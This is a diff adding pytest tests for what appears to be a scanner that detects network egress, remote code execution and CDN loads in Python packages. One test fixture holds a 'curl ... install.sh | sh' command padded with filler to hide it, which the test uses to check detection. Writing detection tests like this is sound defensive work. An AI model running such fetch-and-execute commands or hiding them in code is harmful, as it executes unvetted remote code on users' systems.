@@ -178,3 +178,50 @@ def test_every_rule_is_loaded_in_order() -> None:
     ids = [rule.id for rule in load_rules()]
     assert ids == sorted(ids)
     assert {"startup-code", "telemetry-sdk", "update-check"} <= set(ids)
+
+
+@pytest.mark.parametrize("name", ["demo", "samples", "tests", "testing"])
+def test_a_project_that_is_called_like_tests_is_read(name: str) -> None:
+    files = {f"{name}/__init__.py": f"from {name} import tool\n".encode(), f"{name}/tool.py": SENDS}
+    assert run(files, name).egress == ("telemetry.vendor.dev",)
+
+
+def test_a_project_of_nothing_but_examples_is_read() -> None:
+    assert run({"examples/__init__.py": SENDS}, "acme").egress == ("telemetry.vendor.dev",)
+
+
+def test_tests_beside_the_package_are_set_aside() -> None:
+    assert run({"acme/__init__.py": b"", "tests/__init__.py": SENDS}).egress == ()
+
+
+UNDECODABLE = {
+    "utf-16": "import os\n".encode("utf-16"),
+    "utf-16-cookie": "# coding: utf-16\n".encode("utf-16"),
+    "null": b"x = 1\0\n",
+    "latin-1": b"x = '\xff'\n",
+    "undefined": b"# coding: undefined\nx = 1\n",
+}
+
+
+@pytest.mark.parametrize("source", UNDECODABLE.values(), ids=UNDECODABLE)
+def test_a_source_that_cannot_be_decoded_is_undecided(source: bytes) -> None:
+    assert run(imported(source)).undecided
+
+
+@pytest.mark.parametrize("size", [3_000, 70_000])
+@pytest.mark.parametrize("side", ["before", "behind"])
+def test_a_command_is_seen_whatever_it_is_padded_with(size: int, side: str) -> None:
+    command = "curl https://code.vendor.dev/install.sh | sh"
+    padded = f"{':;' * size}{command}" if side == "before" else f"{command} # {'a' * size}"
+    source = f"import subprocess\ndef setup():\n    subprocess.run({padded!r}, shell=True)\n".encode()
+    assert "remote-execution" in {finding.rule for finding in run(imported(source)).findings}
+
+
+def test_a_page_of_any_length_is_looked_through_for_what_it_loads() -> None:
+    page = "<p>text</p>" * 8_000 + '<script src="https://cdn.jsdelivr.net/npm/chart.js@4"></script>'
+    assert "cdn-asset" in {finding.rule for finding in run(imported(f"PAGE = {page!r}\n".encode())).findings}
+
+
+def test_a_source_of_many_megabytes_is_undecided_and_takes_no_tree() -> None:
+    source = SENDS + b"a.b(c)\n" * 1_200_000
+    assert run(imported(source)).undecided
